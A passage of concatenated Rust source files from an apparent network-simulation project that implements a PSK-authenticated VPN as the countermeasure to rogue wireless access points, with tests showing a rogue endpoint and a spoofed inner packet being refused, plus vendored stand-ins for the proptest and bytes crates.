                port: 4500,
                transport,
                accounts,
                tun_ifindex: server_tun,
                tun_peer_mac: MacAddr::local(101),
            },
            SimRng::new(Seed(4)),
        );
        Rig {
            client_host,
            server_host,
            client,
            server,
            client_tun,
            server_tun,
            now: SimTime::ZERO,
        }
    }

    fn pump(r: &mut Rig, until: SimTime) {
        let mut events = Vec::new();
        while r.now < until {
            r.now += SimDuration::from_millis(1);
            r.client_host.poll(r.now);
            r.server_host.poll(r.now);
            r.client.poll(r.now, &mut r.client_host, &mut events);
            r.server.poll(r.now, &mut r.server_host, &mut events);

            let cf = r.client_host.take_frames();
            for (ifx, f) in cf {
                if ifx == r.client_tun {
                    r.client.consume_tun_frame(r.now, &mut r.client_host, &f);
                } else {
                    r.server_host.on_link_rx(r.now, 0, &f);
                }
            }
            let sf = r.server_host.take_frames();
            for (ifx, f) in sf {
                if ifx == r.server_tun {
                    r.server.consume_tun_frame(r.now, &mut r.server_host, &f);
                } else {
                    r.client_host.on_link_rx(r.now, 0, &f);
                }
            }
        }
    }

    #[test]
    fn handshake_establishes_udp() {
        let psk = [9u8; PSK_LEN];
        let mut r = rig(Transport::Udp, psk, psk);
        pump(&mut r, SimTime::from_secs(2));
        assert!(r.client.is_established());
        assert_eq!(r.server.sessions_established, 1);
        assert_eq!(r.client.auth_failures, 0);
    }

    #[test]
    fn handshake_establishes_tcp() {
        let psk = [9u8; PSK_LEN];
        let mut r = rig(Transport::Tcp, psk, psk);
        pump(&mut r, SimTime::from_secs(2));
        assert!(r.client.is_established());
        assert_eq!(r.server.sessions_established, 1);
    }

    #[test]
    fn rogue_endpoint_without_psk_is_refused() {
        // The §5.2 point: a rogue AP terminating the VPN itself cannot
        // authenticate without the pre-established secret.
        let mut r = rig(Transport::Udp, [9u8; PSK_LEN], [66u8; PSK_LEN]);
        // The client retries (same hello) before giving up for good.
        pump(&mut r, SimTime::from_secs(2));
        assert!(!r.client.is_established());
        assert!(r.client.auth_failures >= 1);
        pump(&mut r, SimTime::from_secs(17));
        assert!(r.client.is_failed(), "hard failure after the retry budget");
    }

    #[test]
    fn ping_flows_through_tunnel() {
        let psk = [9u8; PSK_LEN];
        let mut r = rig(Transport::Udp, psk, psk);
        pump(&mut r, SimTime::from_millis(500));
        assert!(r.client.is_established());
        // Ping the endpoint's tunnel address: routed via tun, sealed,
        // decapsulated, answered, sealed back.
        r.client_host.ping(r.now, SERVER_TUN_IP, 3);
        let until = r.now + SimDuration::from_millis(500);
        pump(&mut r, until);
        let events = r.client_host.take_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                rogue_netstack::HostEvent::PingReply { from, seq: 3 } if *from == SERVER_TUN_IP
            )),
            "events: {events:?}"
        );
        assert!(r.client.records_tx >= 1);
        assert!(r.client.records_rx >= 1);
        assert!(r.server.records_in >= 1);
        assert!(r.server.records_out >= 1);
    }

    #[test]
    fn spoofed_inner_source_dropped() {
        let psk = [9u8; PSK_LEN];
        let mut r = rig(Transport::Udp, psk, psk);
        pump(&mut r, SimTime::from_millis(500));
        assert!(r.client.is_established());
        let before = r.server.records_in;
        // Craft an inner packet claiming a different tunnel source.
        let evil = Ipv4Packet::new(
            Ipv4Addr::new(10, 8, 0, 99),
            SERVER_TUN_IP,
            rogue_netstack::proto::UDP,
            rogue_netstack::udp::UdpDatagram::new(1, 2, Bytes::from_static(b"x"))
                .encode(Ipv4Addr::new(10, 8, 0, 99), SERVER_TUN_IP),
        );
        let tun_mac = r.client_host.iface(r.client_tun).mac;
        let frame = EthFrame::new(tun_mac, MacAddr::local(102), ET_IPV4, evil.encode());
        // Push it through the client's sealer (a compromised app on the
        // victim could do this): the endpoint must refuse the spoof.
        r.client
            .consume_tun_frame(r.now, &mut r.client_host, &frame.encode());
        let until = r.now + SimDuration::from_millis(200);
        pump(&mut r, until);
        assert_eq!(r.server.records_in, before, "spoofed packet not relayed");
    }
}
