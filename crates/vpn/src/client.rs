//! The VPN client: a tunnel ("tun") device plus an encapsulating
//! transport socket.
//!
//! Wiring (done by the embedding node / scenario):
//!
//! * the client host gets an extra interface — the tun device — holding
//!   the tunnel-internal address (e.g. `10.8.0.2/24`),
//! * the host's **default route points at the tun gateway**, so *all*
//!   traffic (requirement 4 of §5.2) leaves through the tunnel,
//! * a /32 host route sends the encapsulated transport itself out the
//!   real (wireless) interface,
//! * frames the host emits on the tun interface are handed to
//!   [`VpnClient::consume_tun_frame`]; decrypted inbound packets are
//!   injected back with `on_link_rx`.

use bytes::Bytes;
use rogue_dot11::MacAddr;
use rogue_netstack::ethernet::EthFrame;
use rogue_netstack::{Host, IfIndex, Ipv4Addr, SocketHandle};
use rogue_services::apps::{App, AppEvent};
use rogue_sim::{SimDuration, SimRng, SimTime};

use crate::protocol::{
    authenticator, gen_keypair, transcript, Message, SessionCrypto, Transport, MAX_RECORD, PSK_LEN,
};

/// Ethertype for IPv4 (tun injection).
const ET_IPV4: u16 = 0x0800;
/// Handshake retry interval.
const HELLO_RETRY: SimDuration = SimDuration::from_millis(500);
/// Give up after this many hellos. Generous: on a cold rogue-bridged
/// path the first seconds of hellos are eaten by ARP warm-up.
const MAX_HELLOS: u32 = 30;
/// Packets buffered while the handshake completes.
const PENDING_CAP: usize = 32;

/// Client configuration.
#[derive(Clone, Debug)]
pub struct VpnClientConfig {
    /// Endpoint transport address.
    pub server: (Ipv4Addr, u16),
    /// Pre-shared key (provisioned out of band — §5.2 requirement 2).
    pub psk: [u8; PSK_LEN],
    /// Client identity.
    pub client_id: u32,
    /// Encapsulation.
    pub transport: Transport,
    /// The host's tun interface index.
    pub tun_ifindex: IfIndex,
    /// The tun gateway IP (host's default route target).
    pub tun_gateway_ip: Ipv4Addr,
    /// MAC used as the tun gateway's address for injected frames.
    pub tun_gateway_mac: MacAddr,
    /// When to start the handshake.
    pub start_at: SimTime,
}

enum ClientState {
    Idle,
    HelloSent {
        kp: rogue_crypto::dh::DhKeyPair,
        nonce: [u8; 16],
        deadline: SimTime,
        attempts: u32,
    },
    Established(Box<SessionCrypto>),
    Failed,
}

/// ClientAuth redelivery state: the third handshake message has no
/// acknowledgment of its own, so the client re-sends it until the first
/// record from the server proves the session completed.
struct AuthRedelivery {
    msg: Message,
    next_send: SimTime,
    confirmed: bool,
}

/// The client app.
pub struct VpnClient {
    cfg: VpnClientConfig,
    state: ClientState,
    udp_sock: Option<SocketHandle>,
    tcp_sock: Option<SocketHandle>,
    tcp_rx: Vec<u8>,
    pending: Vec<Bytes>,
    auth_redelivery: Option<AuthRedelivery>,
    rng: SimRng,
    /// Records sent.
    pub records_tx: u64,
    /// Records received and accepted.
    pub records_rx: u64,
    /// Authentication failures observed in ServerHello (a rogue endpoint
    /// without the PSK shows up here).
    pub auth_failures: u64,
    /// Inner packets dropped because the tunnel was not up.
    pub dropped_no_tunnel: u64,
}

impl VpnClient {
    /// New client; the handshake starts at `cfg.start_at`.
    pub fn new(cfg: VpnClientConfig, rng: SimRng) -> VpnClient {
        VpnClient {
            cfg,
            state: ClientState::Idle,
            udp_sock: None,
            tcp_sock: None,
            tcp_rx: Vec::new(),
            pending: Vec::new(),
            auth_redelivery: None,
            rng,
            records_tx: 0,
            records_rx: 0,
            auth_failures: 0,
            dropped_no_tunnel: 0,
        }
    }

    /// Tunnel is up.
    pub fn is_established(&self) -> bool {
        matches!(self.state, ClientState::Established(_))
    }

    /// Handshake permanently failed (endpoint unauthentic / unreachable).
    pub fn is_failed(&self) -> bool {
        matches!(self.state, ClientState::Failed)
    }

    /// Integrity failures recorded by the session (tampered records).
    pub fn integrity_failures(&self) -> u64 {
        match &self.state {
            ClientState::Established(c) => c.integrity_failures,
            _ => 0,
        }
    }

    /// The host emitted a frame on the tun interface: encapsulate it.
    pub fn consume_tun_frame(&mut self, now: SimTime, host: &mut Host, frame: &Bytes) {
        let Some(eth) = EthFrame::decode(frame) else {
            return;
        };
        if eth.ethertype != ET_IPV4 {
            return; // ARP on the tun link is satisfied statically
        }
        let packet = eth.payload;
        match &mut self.state {
            ClientState::Established(crypto) => {
                let rec = crypto.seal_record(&packet);
                self.records_tx += 1;
                self.send_record(now, host, rec);
            }
            ClientState::Failed => self.dropped_no_tunnel += 1,
            _ => {
                if self.pending.len() < PENDING_CAP {
                    self.pending.push(packet);
                } else {
                    self.dropped_no_tunnel += 1;
                }
            }
        }
    }

    fn send_msg(&mut self, now: SimTime, host: &mut Host, msg: &Message) {
        self.send_record(now, host, Bytes::from(msg.encode()));
    }

    /// Send one already-encoded record. On UDP the buffer travels into
    /// the datagram as-is; TCP needs the 4-byte length prefix, which is
    /// the one place the stream framing forces a copy.
    fn send_record(&mut self, now: SimTime, host: &mut Host, rec: Bytes) {
        match self.cfg.transport {
            Transport::Udp => {
                let sock = *self.udp_sock.get_or_insert_with(|| host.udp_bind(41_000));
                host.udp_send_bytes(now, sock, self.cfg.server.0, self.cfg.server.1, rec);
            }
            Transport::Tcp => {
                let sock = *self.tcp_sock.get_or_insert_with(|| {
                    host.tcp_connect(now, self.cfg.server.0, self.cfg.server.1)
                });
                let mut framed = Vec::with_capacity(4 + rec.len());
                framed.extend_from_slice(&(rec.len() as u32).to_be_bytes());
                framed.extend_from_slice(&rec);
                host.tcp_send(now, sock, &framed);
            }
        }
    }

    fn recv_msgs(&mut self, now: SimTime, host: &mut Host) -> Vec<Message> {
        let mut msgs = Vec::new();
        match self.cfg.transport {
            Transport::Udp => {
                if let Some(sock) = self.udp_sock {
                    while let Some((src, _, payload)) = host.udp_recv(sock) {
                        if src == self.cfg.server.0 {
                            if let Some(m) = Message::decode(&payload) {
                                msgs.push(m);
                            }
                        }
                    }
                }
            }
            Transport::Tcp => {
                if let Some(sock) = self.tcp_sock {
                    let chunk = host.tcp_recv(sock, 256 * 1024);
                    self.tcp_rx.extend_from_slice(&chunk);
                    while self.tcp_rx.len() >= 4 {
                        let len = u32::from_be_bytes(self.tcp_rx[..4].try_into().unwrap()) as usize;
                        if len > MAX_RECORD {
                            // Stream desync or tampering: no valid record
                            // is this large, so waiting for `len` bytes
                            // would stall forever. Drop the buffer.
                            self.tcp_rx.clear();
                            break;
                        }
                        if self.tcp_rx.len() < 4 + len {
                            break;
                        }
                        let rec = Bytes::copy_from_slice(&self.tcp_rx[4..4 + len]);
                        if let Some(m) = Message::decode(&rec) {
                            msgs.push(m);
                        }
                        self.tcp_rx.drain(..4 + len);
                    }
                }
            }
        }
        let _ = now;
        msgs
    }

    fn start_handshake(&mut self, now: SimTime, host: &mut Host) {
        let kp = gen_keypair(&mut self.rng);
        let mut nonce = [0u8; 16];
        self.rng.fill_bytes(&mut nonce);
        let hello = Message::ClientHello {
            client_id: self.cfg.client_id,
            nonce,
            dh_pub: kp.public.clone(),
        };
        self.send_msg(now, host, &hello);
        self.state = ClientState::HelloSent {
            kp,
            nonce,
            deadline: now + HELLO_RETRY,
            attempts: 1,
        };
    }

    /// Retransmit the *same* hello (same keypair and nonce), so any
    /// ServerHello in flight — whichever attempt it answers — still
    /// matches our transcript.
    fn resend_hello(&mut self, now: SimTime, host: &mut Host) {
        let ClientState::HelloSent { kp, nonce, .. } = &self.state else {
            return;
        };
        let hello = Message::ClientHello {
            client_id: self.cfg.client_id,
            nonce: *nonce,
            dh_pub: kp.public.clone(),
        };
        self.send_msg(now, host, &hello);
        if let ClientState::HelloSent {
            deadline, attempts, ..
        } = &mut self.state
        {
            *deadline = now + HELLO_RETRY;
            *attempts += 1;
        }
    }

    fn inject_inbound(&mut self, now: SimTime, host: &mut Host, packet: Bytes) {
        let tun_mac = host.iface(self.cfg.tun_ifindex).mac;
        let frame = EthFrame::new(tun_mac, self.cfg.tun_gateway_mac, ET_IPV4, packet);
        host.on_link_rx(now, self.cfg.tun_ifindex, &frame.encode());
    }

    /// Record-layer counters of the established session:
    /// `(records_sealed, records_opened, bytes_copied)`. Zero before the
    /// handshake completes.
    pub fn record_stats(&self) -> (u64, u64, u64) {
        match &self.state {
            ClientState::Established(c) => (c.records_sealed, c.records_opened, c.bytes_copied),
            _ => (0, 0, 0),
        }
    }
}

impl App for VpnClient {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        // Keep the tun gateway resolvable without real ARP.
        host.arp_cache
            .insert(now, self.cfg.tun_gateway_ip, self.cfg.tun_gateway_mac);

        if matches!(self.state, ClientState::Idle) && now >= self.cfg.start_at {
            self.start_handshake(now, host);
        }

        // ClientAuth redelivery until the server is confirmed.
        if matches!(self.state, ClientState::Established(_)) {
            if let Some(r) = &mut self.auth_redelivery {
                if !r.confirmed && now >= r.next_send {
                    let msg = r.msg.clone();
                    r.next_send = now + HELLO_RETRY;
                    self.send_msg(now, host, &msg);
                }
            }
        }

        // Handshake retries.
        if let ClientState::HelloSent {
            deadline, attempts, ..
        } = &self.state
        {
            if now >= *deadline {
                if *attempts >= MAX_HELLOS {
                    self.state = ClientState::Failed;
                } else {
                    self.resend_hello(now, host);
                }
            }
        }

        for msg in self.recv_msgs(now, host) {
            match (&mut self.state, msg) {
                (
                    ClientState::HelloSent { kp, nonce, .. },
                    Message::ServerHello {
                        nonce: nonce_s,
                        dh_pub,
                        auth,
                    },
                ) => {
                    let t = transcript(self.cfg.client_id, nonce, &nonce_s, &kp.public, &dh_pub);
                    let expect = authenticator(&self.cfg.psk, "server-auth", &t);
                    if expect != auth {
                        // Endpoint does not know the PSK: a rogue
                        // terminating the VPN (or an injected forgery).
                        // Refuse this hello; keep retrying until the
                        // attempt budget runs out, then fail hard.
                        self.auth_failures += 1;
                        continue;
                    }
                    let Some(shared) = kp.agree(&dh_pub) else {
                        self.auth_failures += 1;
                        continue;
                    };
                    let client_auth = authenticator(&self.cfg.psk, "client-auth", &t);
                    let crypto = SessionCrypto::derive(&shared, nonce, &nonce_s, true);
                    self.state = ClientState::Established(Box::new(crypto));
                    let auth_msg = Message::ClientAuth { auth: client_auth };
                    self.send_msg(now, host, &auth_msg);
                    self.auth_redelivery = Some(AuthRedelivery {
                        msg: auth_msg,
                        next_send: now + HELLO_RETRY,
                        confirmed: false,
                    });
                    // Flush packets queued during the handshake.
                    let pending = std::mem::take(&mut self.pending);
                    for pkt in pending {
                        if let ClientState::Established(crypto) = &mut self.state {
                            let rec = crypto.seal_record(&pkt);
                            self.records_tx += 1;
                            self.send_record(now, host, rec);
                        }
                    }
                }
                (
                    ClientState::Established(crypto),
                    Message::Data {
                        seq,
                        tag,
                        ciphertext,
                    },
                ) => {
                    if let Some(pt) = crypto.open(seq, &tag, ciphertext) {
                        // A valid record from the server proves it holds
                        // the session: stop re-sending ClientAuth.
                        if let Some(r) = &mut self.auth_redelivery {
                            r.confirmed = true;
                        }
                        self.records_rx += 1;
                        self.inject_inbound(now, host, pt);
                    }
                }
                _ => {}
            }
        }
    }

    fn next_wake(&self) -> SimTime {
        match &self.state {
            ClientState::Idle => self.cfg.start_at,
            ClientState::HelloSent { deadline, .. } => *deadline,
            ClientState::Established(_) => match &self.auth_redelivery {
                Some(r) if !r.confirmed => r.next_send,
                _ => SimTime::FOREVER,
            },
            _ => SimTime::FOREVER,
        }
    }
}
