//! # rogue-vpn — the paper's countermeasure
//!
//! Section 5 of *Countering Rogues in Wireless Networks*: "require all
//! traffic to pass through a VPN to a trusted, secure, wired network",
//! with four explicit requirements (§5.2):
//!
//! 1. **Provided by a trustworthy entity** — the endpoint lives on the
//!    wired corporate network in the scenarios;
//! 2. **Authentication information preestablished** — a pre-shared key
//!    provisioned out of band; the handshake HMACs the DH transcript
//!    under it, so a rogue AP that terminates the tunnel itself fails
//!    authentication (there is a test for exactly that);
//! 3. **VPN endpoint in secure wired network** — enforced by scenario
//!    topology;
//! 4. **Must handle all client traffic** — the client host's default
//!    route points into the tunnel device; only the encapsulated
//!    transport bypasses it via a host route.
//!
//! Two encapsulations are provided:
//!
//! * [`Transport::Udp`] — one record per datagram (IPsec-style),
//! * [`Transport::Tcp`] — records framed over a TCP stream, reproducing
//!   the paper's PPP-over-SSH testbed and its admitted drawback: "any
//!   UDP traffic is subject to unnecessary retransmission by TCP"
//!   (experiment E5 measures the resulting TCP-over-TCP penalty).

pub mod client;
pub mod protocol;
pub mod server;

pub use client::VpnClient;
pub use protocol::{Transport, PSK_LEN};
pub use server::VpnServer;
