//! Vendored stand-in for the `proptest` property-testing crate.
//!
//! Supports the subset this workspace's property tests use: the
//! `proptest! { #[test] fn name(x in STRATEGY, ...) { ... } }` macro,
//! `prop_assert!` / `prop_assert_eq!` / `prop_assume!`, `any::<T>()` for
//! primitives and byte arrays, integer range strategies, and
//! `collection::vec`. Each test samples a fixed number of cases from a
//! deterministic per-test-name stream, so failures reproduce exactly.
//! There is no shrinking: a failing case prints its assertion message and
//! the case index.

/// Deterministic sampling machinery used by the generated tests.
pub mod test_runner {
    /// Why a generated case did not pass.
    pub enum TestCaseError {
        /// `prop_assume!` rejected the inputs; try another case.
        Reject,
        /// An assertion failed.
        Fail(String),
    }

    /// Cases sampled per property (after rejections).
    pub fn cases() -> u32 {
        64
    }

    /// SplitMix64 stream seeded from the test's name — stable across
    /// runs and platforms.
    pub struct Rng {
        state: u64,
    }

    impl Rng {
        /// Deterministic stream for `name`.
        pub fn deterministic(name: &str) -> Rng {
            // FNV-1a over the name picks the stream.
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in name.bytes() {
                h ^= b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01B3);
            }
            Rng { state: h }
        }

        /// Next 64 uniform bits.
        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }

        /// Uniform in `[0, bound)`; `bound` must be nonzero.
        pub fn below(&mut self, bound: u64) -> u64 {
            // Multiply-shift; bias is negligible for test generation.
            ((self.next_u64() as u128 * bound as u128) >> 64) as u64
        }
    }
}

/// The names property tests import.
pub mod prelude {
    pub use crate::strategy::{any, Strategy};
    pub use crate::{prop_assert, prop_assert_eq, prop_assume, proptest};
}

/// Value-generation strategies.
pub mod strategy {
    use crate::test_runner::Rng;
    use std::marker::PhantomData;
    use std::ops::{Range, RangeInclusive};

    /// Something that can produce values from random bits.
    pub trait Strategy {
        /// The generated type.
        type Value;
        /// Sample one value.
        fn sample(&self, rng: &mut Rng) -> Self::Value;
    }

    /// Marker strategy for "any value of `T`".
    pub struct Any<T>(PhantomData<T>);

    /// The `any::<T>()` strategy.
    pub fn any<T>() -> Any<T>
    where
        Any<T>: Strategy,
    {
        Any(PhantomData)
    }

    macro_rules! any_uint {
        ($($t:ty),*) => {$(
            impl Strategy for Any<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut Rng) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }
    any_uint!(u8, u16, u32, u64, usize);

    impl Strategy for Any<bool> {
        type Value = bool;
        fn sample(&self, rng: &mut Rng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    impl<const N: usize> Strategy for Any<[u8; N]> {
        type Value = [u8; N];
        fn sample(&self, rng: &mut Rng) -> [u8; N] {
            let mut out = [0u8; N];
            for b in out.iter_mut() {
                *b = rng.next_u64() as u8;
            }
            out
        }
    }

    macro_rules! range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for Range<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut Rng) -> $t {
                    assert!(self.start < self.end, "empty range strategy");
                    let span = (self.end - self.start) as u64;
                    self.start + rng.below(span) as $t
                }
            }
            impl Strategy for RangeInclusive<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut Rng) -> $t {
                    let (lo, hi) = (*self.start(), *self.end());
                    assert!(lo <= hi, "empty range strategy");
                    let span = (hi - lo) as u64;
                    if span == u64::MAX {
                        return rng.next_u64() as $t;
                    }
                    lo + rng.below(span + 1) as $t
                }
            }
        )*};
    }
    range_strategy!(u8, u16, u32, u64, usize);
}

/// Collection strategies (`collection::vec`).
pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::Rng;
    use std::ops::{Range, RangeInclusive};

    /// Length bounds for generated collections.
    pub struct SizeRange {
        lo: usize,
        hi_inclusive: usize,
    }

    impl From<Range<usize>> for SizeRange {
        fn from(r: Range<usize>) -> SizeRange {
            assert!(r.start < r.end, "empty size range");
            SizeRange {
                lo: r.start,
                hi_inclusive: r.end - 1,
            }
        }
    }

    impl From<RangeInclusive<usize>> for SizeRange {
        fn from(r: RangeInclusive<usize>) -> SizeRange {
            SizeRange {
                lo: *r.start(),
                hi_inclusive: *r.end(),
            }
        }
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> SizeRange {
            SizeRange {
                lo: n,
                hi_inclusive: n,
            }
        }
    }

    /// Strategy producing `Vec`s of `element` with lengths in `size`.
    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    /// `collection::vec(element, len_range)`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            element,
            size: size.into(),
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn sample(&self, rng: &mut Rng) -> Vec<S::Value> {
            let span = (self.size.hi_inclusive - self.size.lo) as u64;
            let len = self.size.lo + rng.below(span + 1) as usize;
            (0..len).map(|_| self.element.sample(rng)).collect()
        }
    }
}

/// Generate `#[test]` functions that sample each listed strategy.
#[macro_export]
macro_rules! proptest {
    ($($(#[$attr:meta])* fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$attr])*
            fn $name() {
                let mut rng = $crate::test_runner::Rng::deterministic(stringify!($name));
                let want = $crate::test_runner::cases();
                let mut accepted = 0u32;
                let mut attempts = 0u32;
                while accepted < want {
                    attempts += 1;
                    assert!(
                        attempts < want * 20,
                        "proptest: too many rejected cases in {}",
                        stringify!($name)
                    );
                    $(let $arg = $crate::strategy::Strategy::sample(&($strat), &mut rng);)+
                    let outcome = (|| -> ::std::result::Result<(), $crate::test_runner::TestCaseError> {
                        $body
                        Ok(())
                    })();
                    match outcome {
                        Ok(()) => accepted += 1,
                        Err($crate::test_runner::TestCaseError::Reject) => {}
                        Err($crate::test_runner::TestCaseError::Fail(msg)) => {
                            panic!(
                                "property {} failed on case {}: {}",
                                stringify!($name),
                                accepted,
                                msg
                            );
                        }
                    }
                }
            }
        )*
    };
}

/// `assert!` that reports through the proptest harness.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)+),
            ));
        }
    };
}

/// `assert_eq!` that reports through the proptest harness.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l == r, "{:?} != {:?}", l, r);
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(l == r, "{}: {:?} != {:?}", format!($($fmt)+), l, r);
    }};
}

/// Reject the current case (resampled, not counted).
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject);
        }
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        /// The harness runs and honours assumptions.
        #[test]
        fn sums_commute(a in 0u32..1000, b in 0u32..1000) {
            prop_assume!(a != b);
            prop_assert_eq!(a as u64 + b as u64, b as u64 + a as u64);
        }

        /// Vec strategy respects its length bounds.
        #[test]
        fn vec_lengths(v in crate::collection::vec(any::<u8>(), 3..7)) {
            prop_assert!(v.len() >= 3 && v.len() < 7, "len {}", v.len());
        }
    }

    #[test]
    fn deterministic_streams() {
        let mut a = crate::test_runner::Rng::deterministic("x");
        let mut b = crate::test_runner::Rng::deterministic("x");
        assert_eq!(a.next_u64(), b.next_u64());
    }

    #[test]
    #[should_panic(expected = "property")]
    fn failures_panic() {
        proptest! {
            fn always_fails(_a in 0u8..4) {
                prop_assert!(false, "boom");
            }
        }
        always_fails();
    }
}
