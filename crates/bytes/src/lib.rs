//! Vendored stand-in for the `bytes` crate.
//!
//! The sandbox this workspace builds in has no access to crates.io, so
//! the handful of `bytes` APIs the codecs rely on are reimplemented here
//! behind the same names: [`Bytes`] (cheaply clonable, sliceable,
//! immutable), [`BytesMut`] (a growable builder) and [`BufMut`] (the
//! `put_*` appenders). Semantics match the real crate for this subset,
//! including a genuinely zero-copy `from_static` (borrows the static
//! slice; no allocation).

use std::borrow::Borrow;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::{Bound, Deref, RangeBounds};
use std::sync::Arc;

/// Backing storage: refcounted heap allocation or borrowed static data.
#[derive(Clone)]
enum Repr {
    Shared(Arc<[u8]>),
    Static(&'static [u8]),
}

impl Repr {
    fn as_slice(&self) -> &[u8] {
        match self {
            Repr::Shared(a) => a,
            Repr::Static(s) => s,
        }
    }
}

/// A cheaply clonable, immutable byte buffer. Clones and slices share
/// one allocation (or borrow the same static data) — payload bytes are
/// never copied by `clone`/`slice`.
#[derive(Clone)]
pub struct Bytes {
    data: Repr,
    start: usize,
    end: usize,
}

impl Bytes {
    /// An empty buffer (no allocation).
    pub fn new() -> Bytes {
        Bytes::from_static(&[])
    }

    /// Buffer borrowing a static slice — zero-copy, like the real crate.
    pub fn from_static(bytes: &'static [u8]) -> Bytes {
        Bytes {
            data: Repr::Static(bytes),
            start: 0,
            end: bytes.len(),
        }
    }

    /// Buffer holding a copy of `data`.
    pub fn copy_from_slice(data: &[u8]) -> Bytes {
        Bytes::from_vec(data.to_vec())
    }

    fn from_vec(v: Vec<u8>) -> Bytes {
        let end = v.len();
        Bytes {
            data: Repr::Shared(Arc::from(v.into_boxed_slice())),
            start: 0,
            end,
        }
    }

    /// Length in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }

    /// A sub-buffer sharing this buffer's allocation.
    pub fn slice(&self, range: impl RangeBounds<usize>) -> Bytes {
        let lo = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let hi = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len(),
        };
        assert!(lo <= hi && hi <= self.len(), "slice out of range");
        Bytes {
            data: self.data.clone(),
            start: self.start + lo,
            end: self.start + hi,
        }
    }

    /// Copy out into a `Vec`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.as_ref().to_vec()
    }

    /// Mutable view of this buffer's range, granted only when this
    /// handle is the *sole* owner of a heap allocation (refcount 1, not
    /// static data). Lets a consumer that holds the last reference —
    /// e.g. the VPN record layer decrypting a just-received record —
    /// transform bytes in place instead of copying to a fresh `Vec`.
    /// Returns `None` for shared or static buffers, in which case the
    /// caller must fall back to a copy; the zero-copy contract of
    /// DESIGN.md §10 is preserved because mutation is only possible
    /// when provably unobservable by any other holder.
    pub fn try_mut(&mut self) -> Option<&mut [u8]> {
        match &mut self.data {
            Repr::Shared(arc) => {
                let all = Arc::get_mut(arc)?;
                Some(&mut all[self.start..self.end])
            }
            Repr::Static(_) => None,
        }
    }
}

impl Default for Bytes {
    fn default() -> Bytes {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data.as_slice()[self.start..self.end]
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl Borrow<[u8]> for Bytes {
    fn borrow(&self) -> &[u8] {
        self
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Bytes {
        Bytes::from_vec(v)
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(s: &'static [u8]) -> Bytes {
        Bytes::from_static(s)
    }
}

impl<const N: usize> From<&'static [u8; N]> for Bytes {
    fn from(s: &'static [u8; N]) -> Bytes {
        Bytes::from_static(s)
    }
}

impl From<String> for Bytes {
    fn from(s: String) -> Bytes {
        Bytes::from_vec(s.into_bytes())
    }
}

impl From<BytesMut> for Bytes {
    fn from(b: BytesMut) -> Bytes {
        b.freeze()
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Bytes) -> bool {
        self[..] == other[..]
    }
}

impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self[..] == *other
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        self[..] == **other
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self[..] == other[..]
    }
}

impl<const N: usize> PartialEq<[u8; N]> for Bytes {
    fn eq(&self, other: &[u8; N]) -> bool {
        self[..] == other[..]
    }
}

impl PartialOrd for Bytes {
    fn partial_cmp(&self, other: &Bytes) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Bytes {
    fn cmp(&self, other: &Bytes) -> std::cmp::Ordering {
        self[..].cmp(&other[..])
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self[..].hash(state)
    }
}

impl fmt::Debug for Bytes {
